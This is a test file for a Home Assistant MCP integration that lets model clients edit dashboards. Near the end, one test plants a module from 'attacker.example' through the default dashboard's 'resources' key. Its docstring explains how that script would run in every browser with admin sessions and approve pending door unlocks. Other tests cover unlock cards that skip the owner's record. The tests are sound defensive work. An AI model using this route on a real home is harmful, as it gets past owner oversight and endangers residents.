"""Dashboards read and written through the configuration tools (issue 36, item 1).

A real SDK client lists, reads, creates, patches and deletes storage-mode
dashboards of a real Home Assistant, whose `lovelace` integration stores
them (`lovelace/config/save`, `lovelace/dashboards/create`); the panel
restores a version. A dashboard write changes nothing in the house: it is
made at once, and a card whose tap would open the house is listed in its
record for the owner.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from pytest_homeassistant_custom_component.common import MockConfigEntry, MockUser

from custom_components.home_mcp.configs.dashboards import apply_patch
from custom_components.home_mcp.configs.editors import ConfigError
from homeassistant.auth.const import GROUP_ID_USER
from homeassistant.components.lovelace.const import LOVELACE_DATA
from homeassistant.components.lovelace.resources import ResourceStorageCollection
from homeassistant.core import HomeAssistant
from homeassistant.setup import async_setup_component

from .conftest import McpHarness, long_lived_token, panel_sender

HOME: dict[str, Any] = {
    "url_path": "dashboard-home",
    "title": "Home",
    "icon": "mdi:home",
    "views": [
        {
            "title": "Living room",
            "path": "living",
            "cards": [{"type": "entities", "entities": ["light.living_room_rgbww_lights"]}],
        },
        {"title": "Outside", "path": "outside", "cards": []},
    ],
}
"""The Home dashboard, as a model creates it: Settings' fields, then its views."""
GARAGE_CARD: dict[str, Any] = {"type": "tile", "entity": "cover.garage_door", "name": "Garage"}
UNLOCK_CARD: dict[str, Any] = {
    "type": "button",
    "name": "Let them in",
    "tap_action": {
        "action": "perform-action",
        "perform_action": "lock.unlock",
        "target": {"entity_id": "lock.front_door"},
    },
}
YAML_BOARD = "yaml-board"


@pytest.fixture
async def yaml_board(hass: HomeAssistant) -> None:
    """Set up Lovelace with a YAML-mode dashboard, as configuration.yaml declares one."""
    path = Path(hass.config.path("yaml-board.yaml"))
    await hass.async_add_executor_job(
        path.write_text, "title: From YAML\nviews:\n  - title: Hall\n    cards: []\n"
    )
    board = {"mode": "yaml", "filename": "yaml-board.yaml", "title": "YAML board"}
    assert await async_setup_component(
        hass, "lovelace", {"lovelace": {"dashboards": {YAML_BOARD: board}}}
    )


@pytest.fixture
async def demo_house(yaml_board: None, demo_house: HomeAssistant) -> HomeAssistant:
    """Return the demo house, whose Lovelace has a YAML-mode dashboard too."""
    return demo_house


async def _stored(hass: HomeAssistant, url_path: str) -> dict[str, Any]:
    """Return a dashboard's configuration as Lovelace itself serves it."""
    config = await hass.data[LOVELACE_DATA].dashboards[url_path].async_load(False)
    return dict(config)


async def _create_home(mcp: McpHarness) -> dict[str, Any]:
    made = await mcp.data("save_config", {"kind": "dashboard", "config": HOME})
    assert made["ok"] is True and made["written"] is True, made
    return made


async def test_a_dashboard_created_is_listed_with_its_views_and_cards(mcp: McpHarness) -> None:
    made = await _create_home(mcp)
    assert made["action"] == "created" and made["id"] == "dashboard-home"
    assert "entity_id" not in made
    assert (await _stored(mcp.hass, "dashboard-home"))["views"] == HOME["views"]
    assert mcp.hass.data[LOVELACE_DATA].dashboards["dashboard-home"].config["title"] == "Home"

    listed = await mcp.data("get_config", {"kind": "dashboard"})
    rows = {row["id"]: row for row in listed["items"]}
    assert rows["dashboard-home"] == {
        "id": "dashboard-home",
        "url_path": "dashboard-home",
        "title": "Home",
        "mode": "storage",
        "views": 2,
        "cards": 1,
    }
    assert rows["lovelace"]["mode"] == "auto-gen"  # The default one, not taken over yet.
    assert rows[YAML_BOARD]["mode"] == "yaml" and rows[YAML_BOARD]["views"] == 1

    again = await mcp.data("save_config", {"kind": "dashboard", "config": HOME})
    assert again["error"] == "exists"


async def test_a_view_is_read_by_path_or_index_with_its_hash(mcp: McpHarness) -> None:
    await _create_home(mcp)
    by_path = await mcp.data("get_config", {"kind": "dashboard", "id": "dashboard-home/living"})
    by_index = await mcp.data("get_config", {"kind": "dashboard", "id": "dashboard-home/0"})
    assert by_path["config"] == by_index["config"] == HOME["views"][0]
    assert by_path["hash"] == by_index["hash"]
    assert "title: Living room" in by_path["yaml"]

    whole = await mcp.data("get_config", {"kind": "dashboard", "id": "dashboard-home"})
    assert whole["config"] == {"views": HOME["views"]} and whole["hash"] != by_path["hash"]
    assert [row["path"] for row in whole["items"]] == ["living", "outside"]

    missing = await mcp.data("get_config", {"kind": "dashboard", "id": "dashboard-home/attic"})
    assert missing["error"] == "not_found"


async def test_a_large_dashboard_is_outlined_with_a_hint_to_read_one_view(
    mcp: McpHarness,
) -> None:
    cards = [{"type": "markdown", "content": f"Note {n} " + "x" * 200} for n in range(120)]
    big = {**HOME, "url_path": "big-house", "views": [{"path": "notes", "cards": cards}]}
    assert (await mcp.data("save_config", {"kind": "dashboard", "config": big}))["written"]
    outlined = await mcp.data("get_config", {"kind": "dashboard", "id": "big-house"})
    assert "config" not in outlined and "yaml" not in outlined
    assert outlined["items"] == [{"view": 0, "path": "notes", "cards": 120}]
    assert "big-house/0" in outlined["hint"]


async def test_a_view_patched_gets_the_garage_card(mcp: McpHarness) -> None:
    await _create_home(mcp)
    read = await mcp.data("get_config", {"kind": "dashboard", "id": "dashboard-home/outside"})
    patch = [{"op": "add", "path": "/cards/-", "value": GARAGE_CARD}]
    written = await mcp.data(
        "save_config",
        {
            "kind": "dashboard",
            "id": "dashboard-home/outside",
            "config": {"patch": patch, "hash": read["hash"]},
        },
    )
    assert written["written"] is True and written["action"] == "updated", written
    assert "+      entity: cover.garage_door" in written["diff"]
    stored = await _stored(mcp.hass, "dashboard-home")
    assert stored["views"][1]["cards"] == [GARAGE_CARD]
    assert stored["views"][0] == HOME["views"][0]  # The other view as it was.
    assert "opening_cards" not in written  # A tile shows more-info on a tap.


async def test_a_stale_patch_is_refused_as_changed(mcp: McpHarness) -> None:
    await _create_home(mcp)
    read = await mcp.data("get_config", {"kind": "dashboard", "id": "dashboard-home/outside"})
    # Meanwhile someone edits the view in the dashboard editor.
    edited = await _stored(mcp.hass, "dashboard-home")
    edited["views"][1] = {**edited["views"][1], "title": "Garden"}
    await mcp.hass.data[LOVELACE_DATA].dashboards["dashboard-home"].async_save(edited)

    stale = await mcp.data(
        "save_config",
        {
            "kind": "dashboard",
            "id": "dashboard-home/outside",
            "config": {
                "patch": [{"op": "add", "path": "/cards/-", "value": GARAGE_CARD}],
                "hash": read["hash"],
            },
        },
    )
    assert stale["error"] == "changed", stale
    assert (await _stored(mcp.hass, "dashboard-home"))["views"][1]["cards"] == []


async def test_a_version_is_restored_from_thepanel_sender(
    hass: HomeAssistant,
    mcp: McpHarness,
    hass_ws_client: Callable[..., Any],
    hass_admin_user: MockUser,
) -> None:
    await _create_home(mcp)
    whole = await mcp.data("get_config", {"kind": "dashboard", "id": "dashboard-home"})
    replaced = await mcp.data(
        "save_config",
        {
            "kind": "dashboard",
            "id": "dashboard-home",
            "config": {"patch": [{"op": "remove", "path": "/views/0"}], "hash": whole["hash"]},
        },
    )
    assert replaced["written"] is True
    assert len((await _stored(hass, "dashboard-home"))["views"]) == 1

    panel = await panel_sender(hass, hass_ws_client, hass_admin_user)
    history = (await panel({"type": "home_mcp/config/history"}))["result"]["items"]
    [item] = [i for i in history if i["kind"] == "dashboard"]
    assert item["key"] == "dashboard-home" and item["entity_id"] is None
    assert [v["action"] for v in item["versions"]] == ["updated", "created"]
    restored = await panel(
        {
            "type": "home_mcp/config/restore",
            "kind": "dashboard",
            "key": "dashboard-home",
            "version": 0,
        }
    )
    assert restored["success"], restored
    assert restored["result"]["written"]["action"] == "updated"
    assert (await _stored(hass, "dashboard-home"))["views"] == HOME["views"]


async def test_a_dashboard_deleted_as_settings_does_and_restored(
    hass: HomeAssistant,
    mcp: McpHarness,
    hass_ws_client: Callable[..., Any],
    hass_admin_user: MockUser,
) -> None:
    await _create_home(mcp)
    deleted = await mcp.data("delete_config", {"kind": "dashboard", "id": "dashboard-home"})
    assert deleted["written"] is True and deleted["action"] == "deleted", deleted
    assert "dashboard-home" not in hass.data[LOVELACE_DATA].dashboards

    panel = await panel_sender(hass, hass_ws_client, hass_admin_user)
    restored = await panel(
        {
            "type": "home_mcp/config/restore",
            "kind": "dashboard",
            "key": "dashboard-home",
            "version": 0,
        }
    )
    assert restored["success"], restored
    assert restored["result"]["written"]["action"] == "created"
    assert hass.data[LOVELACE_DATA].dashboards["dashboard-home"].config["title"] == "Home"
    assert (await _stored(hass, "dashboard-home"))["views"] == HOME["views"]


async def test_a_yaml_mode_dashboard_is_read_but_its_write_refused(mcp: McpHarness) -> None:
    read = await mcp.data("get_config", {"kind": "dashboard", "id": YAML_BOARD})
    assert read["mode"] == "yaml" and read["config"]["title"] == "From YAML"
    for tool, arguments in (
        ("save_config", {"kind": "dashboard", "id": YAML_BOARD, "config": {"views": []}}),
        (
            "save_config",
            {
                "kind": "dashboard",
                "id": f"{YAML_BOARD}/0",
                "config": {"patch": [], "hash": read["hash"]},
            },
        ),
        ("delete_config", {"kind": "dashboard", "id": YAML_BOARD}),
    ):
        refused = await mcp.data(tool, arguments)
        assert refused["error"] == "yaml_mode", refused
        assert "YAML-mode" in refused["message"]


async def test_a_card_that_unlocks_is_written_at_once_and_recorded_for_the_owner(
    hass: HomeAssistant,
    mcp: McpHarness,
    home_mcp: MockConfigEntry,
    hass_ws_client: Callable[..., Any],
    hass_admin_user: MockUser,
) -> None:
    await _create_home(mcp)
    read = await mcp.data("get_config", {"kind": "dashboard", "id": "dashboard-home/outside"})
    written = await mcp.data(
        "save_config",
        {
            "kind": "dashboard",
            "id": "dashboard-home/outside",
            "config": {
                "patch": [{"op": "add", "path": "/cards/0", "value": UNLOCK_CARD}],
                "hash": read["hash"],
            },
        },
    )
    # A tap is a person's, with their own permissions: the write does not wait.
    assert written["written"] is True and "confirmation_id" not in written, written
    assert not home_mcp.runtime_data.confirmations.async_list()
    assert written["opening_cards"] == ["views[1].cards[0] tap_action: lock.unlock lock.front_door"]
    assert (await _stored(hass, "dashboard-home"))["views"][1]["cards"] == [UNLOCK_CARD]

    panel = await panel_sender(hass, hass_ws_client, hass_admin_user)
    history = (await panel({"type": "home_mcp/config/history"}))["result"]["items"]
    [item] = [i for i in history if i["kind"] == "dashboard"]
    assert item["versions"][0]["opens"] == written["opening_cards"]


async def test_a_toggle_of_the_garage_door_is_an_opening_card(mcp: McpHarness) -> None:
    board = {
        **HOME,
        "url_path": "garage-house",
        "views": [{"cards": [{"type": "button", "entity": "cover.garage_door"}]}],
    }
    made = await mcp.data("save_config", {"kind": "dashboard", "config": board})
    assert made["written"] is True
    [line] = made["opening_cards"]
    assert line.startswith("views[0].cards[0] tap_action:") and "cover.garage_door" in line


async def test_dashboards_are_only_for_callers_allowed_config_tools(
    mcp: McpHarness, hass: HomeAssistant, home_mcp: MockConfigEntry
) -> None:
    member = await hass.auth.async_create_user("Member", group_ids=[GROUP_ID_USER])
    _, control = await home_mcp.runtime_data.keys.async_create("Kitchen tablet", "control")
    _, reader = await home_mcp.runtime_data.keys.async_create("Wall display", "read")
    _, builder = await home_mcp.runtime_data.keys.async_create("Dashboard builder", "config")
    async with mcp.client(token=builder) as client:
        tools = {tool.name: tool for tool in (await client.list_tools()).tools}
        assert "dashboard" in tools["save_config"].input_schema["properties"]["kind"]["enum"]
        listed = await client.call_tool("get_config", {"kind": "dashboard"})
        assert listed.is_error is False
    for token in (await long_lived_token(hass, member), control, reader):
        async with mcp.client(token=token) as client:
            names = {tool.name for tool in (await client.list_tools()).tools}
            assert not {"get_config", "save_config", "delete_config"} & names
            for tool, arguments in (
                ("get_config", {"kind": "dashboard"}),
                ("save_config", {"kind": "dashboard", "config": HOME}),
                ("delete_config", {"kind": "dashboard", "id": "lovelace"}),
            ):
                refused = await client.call_tool(tool, arguments)
                assert refused.is_error is True and refused.structured_content is not None
                assert refused.structured_content["error"] in (
                    "config_scope_needed",
                    "read_only_credential",
                )
    assert "dashboard-home" not in hass.data[LOVELACE_DATA].dashboards


@pytest.mark.parametrize(
    ("operations", "expected"),
    [
        ([{"op": "add", "path": "/a/-", "value": 3}], {"a": [1, 2, 3], "b": {"c": "d"}}),
        ([{"op": "add", "path": "/a/0", "value": 0}], {"a": [0, 1, 2], "b": {"c": "d"}}),
        ([{"op": "remove", "path": "/a/1"}], {"a": [1], "b": {"c": "d"}}),
        ([{"op": "replace", "path": "/b/c", "value": "e"}], {"a": [1, 2], "b": {"c": "e"}}),
        ([{"op": "add", "path": "/b/x~1y", "value": 1}], {"a": [1, 2], "b": {"c": "d", "x/y": 1}}),
        ([{"op": "test", "path": "/b/c", "value": "d"}], {"a": [1, 2], "b": {"c": "d"}}),
    ],
)
def test_a_json_patch_applies_add_remove_replace_and_test(
    operations: list[dict[str, Any]], expected: dict[str, Any]
) -> None:
    document = {"a": [1, 2], "b": {"c": "d"}}
    assert apply_patch(document, operations) == expected
    assert document == {"a": [1, 2], "b": {"c": "d"}}  # Untouched.


@pytest.mark.parametrize(
    "operations",
    [
        [{"op": "test", "path": "/b/c", "value": "x"}],
        [{"op": "remove", "path": "/a/2"}],
        [{"op": "replace", "path": "/z", "value": 1}],
        [{"op": "move", "from": "/a", "path": "/z"}],
        [{"op": "add", "path": "a", "value": 1}],
        [{"op": "add", "path": "/a/01", "value": 1}],
        [{"op": "add", "path": "/a/-", "value": 3}, {"op": "test", "path": "/a/9", "value": 3}],
    ],
)
def test_a_json_patch_that_cannot_apply_is_refused_whole(operations: list[dict[str, Any]]) -> None:
    with pytest.raises(ConfigError):
        apply_patch({"a": [1, 2], "b": {"c": "d"}}, operations)


async def test_the_default_dashboard_is_taken_over_by_a_whole_write(mcp: McpHarness) -> None:
    generated = await mcp.data("get_config", {"kind": "dashboard", "id": "lovelace"})
    assert generated["mode"] == "auto-gen" and "config" not in generated
    patched = await mcp.data(
        "save_config",
        {"kind": "dashboard", "id": "lovelace", "config": {"patch": [], "hash": None}},
    )
    assert patched["error"] == "not_available"
    written = await mcp.data(
        "save_config", {"kind": "dashboard", "id": "lovelace", "config": {"views": [{"cards": []}]}}
    )
    assert written["written"] is True and written["action"] == "updated", written
    default = mcp.hass.data[LOVELACE_DATA].dashboards[None]
    assert await default.async_load(False) == {"views": [{"cards": []}]}
    deleted = await mcp.data("delete_config", {"kind": "dashboard", "id": "lovelace"})
    assert deleted["error"] == "not_deletable"


EVIL_MODULE = "https://attacker.example/card.js"


async def test_a_dashboard_write_cannot_plant_a_frontend_resource_every_browser_runs(
    mcp: McpHarness, hass: HomeAssistant, hass_ws_client: Callable[..., Any]
) -> None:
    """A `resources` key saved into the default dashboard becomes a JS module every browser loads.

    Path: `save_config kind dashboard id lovelace` writes any mapping as the
    default dashboard's configuration (`lovelace/config/save`, no key
    filtered), and the write is never guarded. Home Assistant's
    `ResourceStorageCollection._async_load_data` imports `resources` from that
    very configuration (`default_config`, url path None) whenever the
    `lovelace_resources` store does not exist yet -- a house that never added a
    custom card -- at its next load (the next start, the first browser). The
    imported URL is then loaded as a `<script type=module>` in every person's
    browser, admins included: code with the admin's session, which can approve
    any pending unlock itself. Nothing in the write's record names it.
    """
    written = await mcp.data(
        "save_config",
        {
            "kind": "dashboard",
            "id": "lovelace",
            "config": {
                "views": [{"title": "Home", "cards": []}],
                "resources": [{"url": EVIL_MODULE, "type": "module"}],
            },
        },
    )
    # No restart needed: the first browser of a person (not an admin) that opens a dashboard.
    member = await hass.auth.async_create_user("Member", group_ids=[GROUP_ID_USER])
    refresh = await hass.auth.async_create_refresh_token(member, "http://127.0.0.1/")
    client = await hass_ws_client(access_token=hass.auth.async_create_access_token(refresh))
    await client.send_json_auto_id({"type": "lovelace/resources"})
    reply = await client.receive_json()
    served = [item.get("url") for item in reply.get("result") or []]
    # And at every later start: Lovelace loads its resources from the store it wrote.
    default = hass.data[LOVELACE_DATA].dashboards[None]
    resources = ResourceStorageCollection(hass, default)
    await resources.async_load()
    loaded = served + [item.get("url") for item in resources.async_items()]
    assert EVIL_MODULE not in loaded, (
        f"save_config answered {written.get('written')=}, {written.get('error')=}; "
        f"every browser now loads {loaded} (served to a plain user's browser: {served})"
    )


async def test_a_tile_whose_icon_tap_unlocks_is_an_opening_card(mcp: McpHarness) -> None:
    """A tile card's `icon_tap_action` (and its default icon toggle) is a tap that acts.

    `opening_cards` looks only at `tap_action`, `hold_action` and
    `double_tap_action` (`CARD_ACTIONS`), and at `button`/`light` default
    toggles. The tile card, the editor's default card, has
    `icon_tap_action`, `icon_hold_action` and `icon_double_tap_action`, and
    its icon toggles by default for the frontend's toggle domains (valve
    among them). A model saves a tile whose icon tap unlocks the front door,
    and a tile on the orchard's valve: one tap each opens the house, the write
    is made at once (never guarded) and neither card is listed for the owner.
    """
    board = {
        "url_path": "tile-house",
        "title": "Tiles",
        "views": [
            {
                "cards": [
                    {
                        "type": "tile",
                        "entity": "lock.front_door",
                        "icon_tap_action": {
                            "action": "perform-action",
                            "perform_action": "lock.unlock",
                            "target": {"entity_id": "lock.front_door"},
                        },
                    },
                    {"type": "tile", "entity": "valve.orchard"},
                ]
            }
        ],
    }
    made = await mcp.data("save_config", {"kind": "dashboard", "config": board})
    assert made["written"] is True, made
    listed = made.get("opening_cards") or []
    assert any("lock.front_door" in line for line in listed), listed
    assert any("valve.orchard" in line for line in listed), listed


async def test_a_card_s_lock_buttons_and_an_entities_row_s_unlock_are_opening_cards(
    mcp: McpHarness,
) -> None:
    """A tile's lock commands, the garage's open and close, an entities card's lock row.

    Each shows a button that opens with one tap, whatever its tap action:
    named for the owner. A tile on a light with its toggle is not.
    """
    board = {
        "url_path": "buttons-house",
        "title": "Buttons",
        "views": [
            {
                "cards": [
                    {
                        "type": "tile",
                        "entity": "lock.front_door",
                        "features": [{"type": "lock-commands"}],
                    },
                    {
                        "type": "tile",
                        "entity": "cover.garage_door",
                        "features": [{"type": "cover-open-close"}],
                    },
                    {
                        "type": "entities",
                        "entities": ["light.bed_light", {"entity": "lock.front_door"}],
                    },
                    {"type": "tile", "entity": "light.bed_light", "features": [{"type": "toggle"}]},
                ]
            }
        ],
    }
    made = await mcp.data("save_config", {"kind": "dashboard", "config": board})
    assert made["written"] is True, made
    listed = made.get("opening_cards") or []
    assert any("cards[0] feature lock-commands" in line for line in listed), listed
    assert any("cards[1] feature cover-open-close" in line for line in listed), listed
    assert any("cards[2].entities[1] row button" in line for line in listed), listed
    assert not any("cards[3]" in line for line in listed), listed
